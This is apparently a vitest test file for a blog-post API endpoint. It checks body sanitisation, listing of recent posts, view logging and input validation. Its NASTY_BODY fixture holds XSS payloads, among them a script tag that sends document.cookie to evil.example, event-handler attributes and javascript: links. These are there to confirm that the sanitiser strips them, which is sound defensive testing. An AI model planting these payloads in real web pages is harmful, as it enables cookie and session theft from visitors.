import { Texts } from '@opence/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TTestApp } from '../../../test/build-test-app.ts';
import { createBlogPost, createMember, createPodcast, type TTestMember } from '../../../test/factories.ts';
import { nowIso } from '../../lib/ids.ts';

let t: TTestApp;
let member: TTestMember;
const db = () => t.app.deps.database.db;
const viewsOf = async (postId: string) =>
  db().selectFrom('blog_views').selectAll().where('blog_post_id', '=', postId).execute();

const NASTY_BODY = [
  '<p>Intro <a href="https://example.com/more">read more</a>.</p>',
  '[[ad]]',
  '<p onclick="steal()">Clicked</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="/media/x.png" onerror="alert(1)" alt="X-ray">',
  '<a href="javascript:alert(1)">bad link</a>',
  '<a href=" JAVASCRIPT:alert(2)">bad link 2</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<p>[[ad]]</p>',
  '<p>End</p>',
].join('\n');

beforeAll(async () => {
  t = await buildTestApp();
  member = await createMember(db());
});
afterAll(() => t.close());

describe('GET /api/blog-post', () => {
  it('gives the post with a clean body, without the ad marker, and the recent posts', async () => {
    const episode = await createPodcast(db(), { title: 'The Source Episode' });
    const post = await createBlogPost(db(), { body: NASTY_BODY, podcast_id: episode.id, featured: 1 });
    const res = await t.app.inject({ url: `/api/blog-post?b=${post.slug}` });
    expect(res.statusCode).toBe(200);
    const { status, blogObj, data } = res.json();
    expect(status).toBe(true);
    expect(blogObj).toMatchObject({
      id: post.slug,
      title: post.title,
      author: 'Test Author',
      featured: true,
      podcastId: episode.hash,
      podcastHash: episode.hash,
      podcastShowHash: episode.showHash,
      podcastTitle: 'The Source Episode',
    });
    expect(blogObj.body).not.toMatch(/<script|<iframe|onclick|onerror|javascript:|\[\[ad\]\]/i);
    expect(blogObj.body).toContain('<p>Clicked</p>');
    expect(blogObj.body).toContain('<img src="/media/x.png" alt="X-ray">');
    expect(blogObj.body).toContain('<a>bad link</a>');
    expect(blogObj.body).toContain('href="https://example.com/more"');
    expect(data.map((r: { id: string }) => r.id)).not.toContain(post.slug);
  });

  it('lists the five newest other posts, newest first, and never an unpublished or future one', async () => {
    const day = 86_400_000;
    const posts = [];
    for (let i = 1; i <= 6; i++) {
      posts.push(await createBlogPost(db(), { published_at: nowIso(new Date(Date.now() - i * 3600_000)) }));
    }
    const hidden = await createBlogPost(db(), { is_published: 0, published_at: nowIso() });
    const future = await createBlogPost(db(), { published_at: nowIso(new Date(Date.now() + day)) });
    const shown = await createBlogPost(db(), { published_at: nowIso(new Date(Date.now() - 30 * day)) });
    const res = await t.app.inject({ url: `/api/blog-post?b=${shown.slug}&blockLog=1` });
    const ids = res.json().data.map((r: { id: string }) => r.id);
    expect(ids).toEqual(posts.slice(0, 5).map((p) => p.slug));
    expect(ids).not.toContain(hidden.slug);
    expect(ids).not.toContain(future.slug);
    for (const slug of [hidden.slug, future.slug]) {
      const missing = await t.app.inject({ url: `/api/blog-post?b=${slug}` });
      expect(missing.statusCode).toBe(404);
    }
  });

  it('logs a view for a visitor and for a member, and none with blockLog', async () => {
    const post = await createBlogPost(db());
    await t.app.inject({ url: `/api/blog-post?b=${post.slug}` });
    await t.app.inject({ url: `/api/blog-post?b=${post.slug}&s=${member.token}` });
    expect((await viewsOf(post.id)).map((v) => v.member_id).sort()).toEqual([member.id, null].sort());
    for (const flag of ['1', 'true']) {
      const res = await t.app.inject({
        url: `/api/blog-post?b=${post.slug}&blockLog=${flag}&s=${member.token}`,
      });
      expect(res.statusCode).toBe(200);
    }
    expect(await viewsOf(post.id)).toHaveLength(2);
  });

  it('answers an unknown post with 404 and the spec text', async () => {
    const res = await t.app.inject({ url: '/api/blog-post?b=no-such-post' });
    expect(res.statusCode).toBe(404);
    expect(res.json()).toEqual({ status: false, msg: Texts.SELECT_BLOG_POST });
  });

  it.each([
    ['', 'b'],
    ['?b=', 'b'],
    ['?b=a%20b', 'b'],
    [`?b=${'x'.repeat(121)}`, 'b'],
    ['?b=ok&blockLog=sometimes', 'blockLog'],
  ])('refuses %s with a 400 naming %s', async (query, field) => {
    const res = await t.app.inject({ url: `/api/blog-post${query}` });
    expect(res.statusCode).toBe(400);
    expect(res.json().field).toBe(field);
  });
});
